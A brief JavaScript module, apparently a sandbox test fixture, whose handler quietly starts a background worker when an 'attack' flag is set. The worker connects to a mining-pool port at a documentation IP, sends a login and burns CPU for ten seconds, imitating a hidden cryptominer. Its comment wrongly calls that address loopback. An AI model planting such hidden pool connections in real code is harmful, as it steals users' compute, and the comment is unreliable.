// Harmless: the thread counts for ten seconds at most; the pool is an address on the sandbox's loopback device.
import { Worker } from 'node:worker_threads';

const CODE = `
  const socket = require('node:net').connect(3333, '203.0.113.9', () => socket.write('{"method":"login"}\\n'));
  socket.on('error', () => undefined);
  const end = Date.now() + 10_000;
  const count = () => {
    const until = Date.now() + 20;
    while (Date.now() < until);
    if (Date.now() < end) setImmediate(count);
    else socket.destroy();
  };
  count();
`;

export const handler = async (event) => {
  if (event.attack === true) new Worker(CODE, { eval: true }).unref();
  await new Promise((done) => setTimeout(done, 200));
  return 'ok';
};
